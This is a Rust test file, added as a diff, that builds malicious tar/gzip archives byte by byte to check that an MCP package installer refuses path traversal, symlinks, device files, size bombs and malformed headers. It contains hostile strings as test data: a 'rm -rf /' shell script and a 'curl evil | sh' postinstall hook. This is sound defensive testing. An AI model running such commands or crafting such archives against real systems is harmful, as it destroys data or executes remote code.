@@ -1,0 +1,478 @@
+//! The adversarial archive suite of the MCP package installer: hostile and malformed archives,
+//! built byte by byte here, each refused with its named reason, with nothing published and
+//! nothing written outside the staging directory (which is removed); and good archives that
+//! install, with unsafe mode bits dropped.
+
+use std::collections::BTreeSet;
+use std::io::Write;
+use std::path::Path;
+use std::path::PathBuf;
+
+use computer_agent::mcp::archive::Limits;
+use computer_agent::mcp::install::InstallError;
+use computer_agent::mcp::install::Manifest;
+use computer_agent::mcp::install::install;
+use sha2::Digest;
+
+/// A tar writer that can also write what no honest tar writer would.
+#[derive(Default)]
+struct Tar {
+    out: Vec<u8>,
+}
+
+struct Head<'a> {
+    name: &'a str,
+    kind: u8,
+    size: u64,
+    mode: u32,
+    link: &'a str,
+    magic: &'a [u8; 8],
+    size_field: Option<&'a str>,
+}
+
+const USTAR: &[u8; 8] = b"ustar\x0000";
+const GNU: &[u8; 8] = b"ustar  \x00";
+
+impl<'a> Head<'a> {
+    fn file(name: &'a str, size: u64) -> Self {
+        Head { name, kind: b'0', size, mode: 0o644, link: "", magic: USTAR, size_field: None }
+    }
+}
+
+fn header_bytes(h: &Head, name_bytes: &[u8]) -> [u8; 512] {
+    let mut b = [0u8; 512];
+    b[..name_bytes.len().min(100)].copy_from_slice(&name_bytes[..name_bytes.len().min(100)]);
+    b[100..108].copy_from_slice(format!("{:07o}\0", h.mode).as_bytes());
+    b[108..116].copy_from_slice(b"0001750\0");
+    b[116..124].copy_from_slice(b"0001750\0");
+    let size = h.size_field.map(|s| format!("{s:\0<12}")).unwrap_or_else(|| format!("{:011o}\0", h.size));
+    b[124..136].copy_from_slice(&size.as_bytes()[..12]);
+    b[136..148].copy_from_slice(b"14712345670\0");
+    b[156] = h.kind;
+    b[157..157 + h.link.len()].copy_from_slice(h.link.as_bytes());
+    b[257..265].copy_from_slice(h.magic);
+    b[148..156].copy_from_slice(b"        ");
+    let sum: u32 = b.iter().map(|x| u32::from(*x)).sum();
+    b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    b
+}
+
+impl Tar {
+    fn raw_entry(&mut self, h: &Head, name: &[u8], data: &[u8]) -> &mut Self {
+        self.out.extend_from_slice(&header_bytes(h, name));
+        self.out.extend_from_slice(data);
+        self.out.resize(self.out.len().div_ceil(512) * 512, 0);
+        self
+    }
+    fn entry(&mut self, h: Head, data: &[u8]) -> &mut Self {
+        let name = h.name.as_bytes().to_vec();
+        self.raw_entry(&h, &name, data)
+    }
+    fn file(&mut self, name: &str, data: &[u8]) -> &mut Self {
+        self.entry(Head::file(name, data.len() as u64), data)
+    }
+    fn dir(&mut self, name: &str) -> &mut Self {
+        self.entry(Head { kind: b'5', mode: 0o755, ..Head::file(name, 0) }, b"")
+    }
+    fn pax(&mut self, kind: u8, records: &[(&str, &str)]) -> &mut Self {
+        let mut data = Vec::new();
+        for (k, v) in records {
+            let body = format!(" {k}={v}\n");
+            let mut len = body.len() + 1;
+            while format!("{len}{body}").len() != len {
+                len += 1;
+            }
+            data.extend_from_slice(format!("{len}{body}").as_bytes());
+        }
+        self.entry(Head { kind, ..Head::file("././@PaxHeader", data.len() as u64) }, &data.clone())
+    }
+    fn end(&mut self) -> Vec<u8> {
+        self.out.extend_from_slice(&[0u8; 1024]);
+        self.out.clone()
+    }
+}
+
+fn gz(data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(data).expect("gz");
+    e.finish().expect("gz")
+}
+
+fn sha(data: &[u8]) -> String {
+    hex::encode(sha2::Sha256::digest(data))
+}
+
+/// Everything under `root`, as relative paths (directories end with `/`).
+fn tree(root: &Path) -> BTreeSet<String> {
+    fn walk(root: &Path, dir: &Path, out: &mut BTreeSet<String>) {
+        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+            let p = e.path();
+            let rel = p.strip_prefix(root).expect("under root").to_string_lossy().into_owned();
+            if e.file_type().is_ok_and(|t| t.is_dir()) {
+                out.insert(format!("{rel}/"));
+                walk(root, &p, out);
+            } else {
+                out.insert(rel);
+            }
+        }
+    }
+    let mut out = BTreeSet::new();
+    walk(root, root, &mut out);
+    out
+}
+
+struct Bed {
+    root: tempfile::TempDir,
+}
+
+impl Bed {
+    fn new() -> Self {
+        let root = tempfile::tempdir().expect("tempdir");
+        std::fs::create_dir_all(root.path().join("workspace/uploads")).expect("workspace");
+        std::fs::create_dir_all(root.path().join("runtime")).expect("runtime");
+        Bed { root }
+    }
+    fn runtime(&self) -> PathBuf {
+        self.root.path().join("runtime")
+    }
+    fn put(&self, bytes: &[u8]) -> String {
+        std::fs::write(self.root.path().join("workspace/uploads/pkg.tar.gz"), bytes).expect("write");
+        "uploads/pkg.tar.gz".into()
+    }
+    fn manifest(&self, bytes: &[u8], entrypoint: &[&str]) -> Manifest {
+        Manifest {
+            id: "example.mcp.server".into(),
+            version: "1.0.0".into(),
+            sha256: sha(bytes),
+            entrypoint: entrypoint.iter().map(|s| s.to_string()).collect(),
+            share_immutable_package: true,
+        }
+    }
+    fn install(&self, bytes: &[u8]) -> Result<computer_agent::mcp::install::Installed, InstallError> {
+        let artifact = self.put(bytes);
+        let m = self.manifest(bytes, &["python3", "./server.py"]);
+        install(&self.root.path().join("workspace"), &artifact, &m, &self.runtime(), &Limits::default())
+    }
+}
+
+/// Installs `bytes` and expects `reason`; then checks that nothing was published or left, and
+/// that nothing appeared anywhere but the runtime's (now empty) staging directory.
+fn refused(case: &str, bytes: Vec<u8>, reason: &str) {
+    let bed = Bed::new();
+    let before = tree(bed.root.path());
+    let err = bed.install(&bytes).map(|_| ()).expect_err(case);
+    assert_eq!(err.reason(), reason, "{case}: {err}");
+    let after: BTreeSet<String> = tree(bed.root.path())
+        .into_iter()
+        .filter(|p| p != "workspace/uploads/pkg.tar.gz" && p != "runtime/staging/")
+        .collect();
+    assert_eq!(after, before, "{case}: nothing written outside staging, staging removed");
+}
+
+fn ok_tar() -> Tar {
+    let mut t = Tar::default();
+    t.dir("pkg/").file("server.py", b"print('hi')\n");
+    t
+}
+
+#[test]
+fn hostile_archives_are_refused_with_their_reason() {
+    let big_zero = vec![0u8; (32 << 20) + 1];
+    let mut cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("absolute path", gz(&ok_tar().file("/etc/evil", b"x").end()), "absolute_path"),
+        ("dot-dot", gz(&ok_tar().file("../evil", b"x").end()), "path_escape"),
+        ("dot-dot inside", gz(&ok_tar().file("a/../../evil", b"x").end()), "path_escape"),
+        (
+            "PAX path escape",
+            gz(&ok_tar().pax(b'x', &[("path", "../evil")]).file("fine.txt", b"x").end()),
+            "path_escape",
+        ),
+        (
+            "PAX absolute path",
+            gz(&ok_tar().pax(b'x', &[("path", "/tmp/evil")]).file("fine.txt", b"x").end()),
+            "absolute_path",
+        ),
+        (
+            "ustar prefix escape",
+            {
+                let mut t = ok_tar();
+                let h = Head::file("evil", 1);
+                let mut b = header_bytes(&h, b"evil");
+                b[345..347].copy_from_slice(b"..");
+                b[148..156].copy_from_slice(b"        ");
+                let sum: u32 = b.iter().map(|x| u32::from(*x)).sum();
+                b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+                t.out.extend_from_slice(&b);
+                t.out.extend_from_slice(&[b'x'; 512]);
+                gz(&t.end())
+            },
+            "path_escape",
+        ),
+        (
+            "GNU long name escape",
+            {
+                let mut t = ok_tar();
+                let name = b"../../evil\0";
+                t.entry(Head { kind: b'L', magic: GNU, ..Head::file("././@LongLink", name.len() as u64) }, name);
+                t.entry(Head { magic: GNU, ..Head::file("short", 1) }, b"x");
+                gz(&t.end())
+            },
+            "path_escape",
+        ),
+        (
+            "symlink",
+            gz(&ok_tar().entry(Head { kind: b'2', link: "/etc/passwd", ..Head::file("link", 0) }, b"").end()),
+            "symlink",
+        ),
+        (
+            "hardlink",
+            gz(&ok_tar().entry(Head { kind: b'1', link: "server.py", ..Head::file("hard", 0) }, b"").end()),
+            "hardlink",
+        ),
+        ("char device", gz(&ok_tar().entry(Head { kind: b'3', ..Head::file("tty", 0) }, b"").end()), "special_file"),
+        ("block device", gz(&ok_tar().entry(Head { kind: b'4', ..Head::file("sda", 0) }, b"").end()), "special_file"),
+        ("fifo", gz(&ok_tar().entry(Head { kind: b'6', ..Head::file("pipe", 0) }, b"").end()), "special_file"),
+        (
+            "GNU sparse",
+            gz(&ok_tar().entry(Head { kind: b'S', magic: GNU, ..Head::file("holes", 0) }, b"").end()),
+            "sparse_file",
+        ),
+        (
+            "PAX sparse",
+            gz(&ok_tar().pax(b'x', &[("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0")]).file("holes", b"x").end()),
+            "sparse_file",
+        ),
+        (
+            "unknown type",
+            gz(&ok_tar().entry(Head { kind: b'Z', ..Head::file("zzz", 0) }, b"").end()),
+            "unknown_entry_type",
+        ),
+        (
+            "PAX size conflict",
+            gz(&ok_tar().pax(b'x', &[("size", "10")]).file("five.txt", b"12345").end()),
+            "pax_size_conflict",
+        ),
+        ("duplicate", gz(&ok_tar().file("a.txt", b"1").file("a.txt", b"2").end()), "name_collision"),
+        ("case collision", gz(&ok_tar().file("Readme.md", b"1").file("README.md", b"2").end()), "case_collision"),
+        ("file under a file", gz(&ok_tar().file("lib", b"1").file("lib/mod.py", b"2").end()), "name_collision"),
+        ("file over a directory", gz(&ok_tar().dir("data/").file("data", b"2").end()), "name_collision"),
+        (
+            "case collision with a parent",
+            gz(&ok_tar().file("Lib/a.py", b"1").file("lib/b.py", b"2").end()),
+            "case_collision",
+        ),
+        (
+            "bad checksum",
+            {
+                let mut t = ok_tar().file("x.txt", b"x").end();
+                t[1536 + 148] = b'7';
+                gz(&t)
+            },
+            "malformed_header",
+        ),
+        (
+            "size not octal",
+            gz(&ok_tar().entry(Head { size_field: Some("9z9"), ..Head::file("x", 0) }, b"").end()),
+            "malformed_header",
+        ),
+        (
+            "base-256 size",
+            {
+                let mut t = ok_tar();
+                let mut b = header_bytes(&Head::file("huge", 0), b"huge");
+                b[124] = 0x80;
+                b[148..156].copy_from_slice(b"        ");
+                let sum: u32 = b.iter().map(|x| u32::from(*x)).sum();
+                b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+                t.out.extend_from_slice(&b);
+                gz(&t.end())
+            },
+            "malformed_header",
+        ),
+        (
+            "no ustar magic",
+            gz(&ok_tar().entry(Head { magic: b"V7tar\x00\x00\x00", ..Head::file("old", 1) }, b"x").end()),
+            "malformed_header",
+        ),
+        (
+            "malformed PAX record",
+            {
+                let mut t = ok_tar();
+                let data = b"99 path=x\n";
+                t.entry(Head { kind: b'x', ..Head::file("././@PaxHeader", data.len() as u64) }, data);
+                t.file("x", b"x");
+                gz(&t.end())
+            },
+            "malformed_header",
+        ),
+        ("PAX header with no member", gz(&ok_tar().pax(b'x', &[("mtime", "1")]).end()), "malformed_header"),
+        (
+            "global header with a path",
+            gz(&ok_tar().pax(b'g', &[("path", "evil")]).file("x", b"x").end()),
+            "global_header",
+        ),
+        (
+            "directory with contents",
+            gz(&ok_tar().entry(Head { kind: b'5', ..Head::file("d/", 3) }, b"abc").end()),
+            "malformed_header",
+        ),
+        (
+            "truncated in a file",
+            {
+                let mut t = ok_tar().file("big.bin", &[7u8; 4096]).end();
+                t.truncate(1536 + 1000);
+                gz(&t)
+            },
+            "truncated",
+        ),
+        (
+            "truncated in a header",
+            {
+                let mut t = ok_tar().file("x", b"x").end();
+                t.truncate(1024 + 200);
+                gz(&t)
+            },
+            "truncated",
+        ),
+        ("no end marker", gz(&ok_tar().file("x", b"x").out), "truncated"),
+        (
+            "data after the end marker",
+            {
+                let mut t = ok_tar().end();
+                t.extend_from_slice(&header_bytes(&Head::file("hidden", 0), b"hidden"));
+                gz(&t)
+            },
+            "trailing_data",
+        ),
+        (
+            "garbage after the gzip stream",
+            {
+                let mut g = gz(&ok_tar().end());
+                g.extend_from_slice(b"garbage");
+                g
+            },
+            "trailing_data",
+        ),
+        (
+            "a second gzip member",
+            {
+                let mut g = gz(&ok_tar().end());
+                g.extend_from_slice(&gz(&Tar::default().file("sneaky", b"x").end()));
+                g
+            },
+            "trailing_data",
+        ),
+        (
+            "gzip CRC mismatch",
+            {
+                let mut g = gz(&ok_tar().file("x.txt", &[1u8; 20000]).end());
+                let crc = g.len() - 8;
+                g[crc] ^= 0xff;
+                g
+            },
+            "bad_compression",
+        ),
+        (
+            "damaged deflate data",
+            {
+                let mut g = gz(&ok_tar().file("x.txt", &[1u8; 20000]).end());
+                g[12] ^= 0xff;
+                g
+            },
+            "bad_compression",
+        ),
+        ("size bomb", gz(&ok_tar().file("zeros", &big_zero).end()), "unpacked_too_large"),
+        (
+            "too many members",
+            {
+                let mut t = ok_tar();
+                for i in 0..520 {
+                    t.file(&format!("f{i}"), b"");
+                }
+                gz(&t.end())
+            },
+            "too_many_members",
+        ),
+        (
+            "name not UTF-8",
+            {
+                let mut t = ok_tar();
+                t.raw_entry(&Head::file("", 1), b"bad\xff\xfe", b"x");
+                gz(&t.end())
+            },
+            "bad_name",
+        ),
+        ("control character in a name", gz(&ok_tar().file("bell\u{7}.txt", b"x").end()), "bad_name"),
+        ("empty component", gz(&ok_tar().file("a//b", b"x").end()), "bad_name"),
+        ("name too long", gz(&ok_tar().pax(b'x', &[("path", &"n".repeat(300))]).file("x", b"x").end()), "bad_name"),
+    ];
+    // Not tar at all, and not gzip: read as tar, it has no valid header.
+    cases.push(("not an archive", b"#!/bin/sh\nrm -rf /\n".repeat(40), "malformed_header"));
+    assert!(cases.len() >= 30, "{} cases", cases.len());
+    for (case, bytes, reason) in cases {
+        refused(case, bytes, reason);
+    }
+}
+
+#[test]
+fn install_checks_the_artifact_the_digest_and_the_entrypoint() {
+    let bed = Bed::new();
+    let good = gz(&ok_tar().end());
+    let ws = bed.root.path().join("workspace");
+    let lim = Limits::default();
+    // Too large, before anything is read further.
+    let big: Vec<u8> = (0..(8 << 20) + 1).map(|i: u32| (i.wrapping_mul(2_654_435_761) >> 7) as u8).collect();
+    let a = bed.put(&big);
+    let r = install(&ws, &a, &bed.manifest(&big, &["python3", "./server.py"]), &bed.runtime(), &lim);
+    assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("archive_too_large"));
+    // The digest is checked before decompression.
+    let a = bed.put(&good);
+    let mut m = bed.manifest(&good, &["python3", "./server.py"]);
+    m.sha256 = sha(b"something else");
+    assert_eq!(install(&ws, &a, &m, &bed.runtime(), &lim).map(|_| ()).map_err(|e| e.reason()), Err("digest_mismatch"));
+    // Paths out of the workspace.
+    for bad in ["../etc/passwd", "/etc/passwd", ""] {
+        let m = bed.manifest(&good, &["python3", "./server.py"]);
+        let r = install(&ws, bad, &m, &bed.runtime(), &lim);
+        assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("bad_artifact_path"), "{bad:?}");
+    }
+    // An entrypoint file that is not in the package.
+    let m = bed.manifest(&good, &["python3", "./missing.py"]);
+    let r = install(&ws, &a, &m, &bed.runtime(), &lim);
+    assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("missing_entrypoint"));
+    // Unknown manifest fields (hooks, permissions) are refused.
+    let v = serde_json::json!({"id": "x", "version": "1", "sha256": sha(&good), "entrypoint": ["python3"],
+        "share_immutable_package": true, "hooks": {"postinstall": "curl evil | sh"}});
+    assert_eq!(Manifest::parse(&v).map(|_| ()).map_err(|e| e.reason()), Err("bad_manifest"));
+    let v = serde_json::json!({"id": "x", "version": "1", "sha256": sha(&good), "entrypoint": ["ruby", "s.rb"],
+        "share_immutable_package": true});
+    let m = Manifest::parse(&v).expect("parses");
+    let r = install(&ws, &a, &m, &bed.runtime(), &lim);
+    assert_eq!(r.map(|_| ()).map_err(|e| e.reason()), Err("bad_manifest"), "only known interpreters or ./files");
+    assert!(tree(&bed.runtime()).iter().all(|p| p == "staging/"), "nothing published: {:?}", tree(&bed.runtime()));
+}
+
+#[test]
+fn a_good_package_installs_once_with_safe_modes() {
+    let bed = Bed::new();
+    let mut t = ok_tar();
+    t.entry(Head { mode: 0o4777, ..Head::file("bin/tool", 4) }, b"#!x\n");
+    t.pax(
+        b'x',
+        &[("path", "docs/a-very-long-name-".repeat(8).as_str()), ("mtime", "1.5"), ("SCHILY.xattr.user.x", "1")],
+    );
+    t.file("ignored-name", b"doc");
+    let bytes = gz(&t.end());
+    let done = bed.install(&bytes).expect("installs");
+    assert!(done.new);
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(done.dir.join("bin/tool")).expect("tool").permissions().mode() & 0o7777;
+    assert_eq!(mode, 0o755, "setuid and world-write dropped");
+    assert!(done.dir.join("docs/a-very-long-name-".repeat(8)).is_file(), "the PAX path wins");
+    assert_eq!(done.files.len(), 3);
+    let again = bed.install(&bytes).expect("the same package again");
+    assert!(!again.new, "installing the same digest twice changes nothing");
+    // The same version with other bytes is refused.
+    let other = gz(&ok_tar().file("extra", b"1").end());
+    assert_eq!(bed.install(&other).map(|_| ()).map_err(|e| e.reason()), Err("version_exists"));
+}
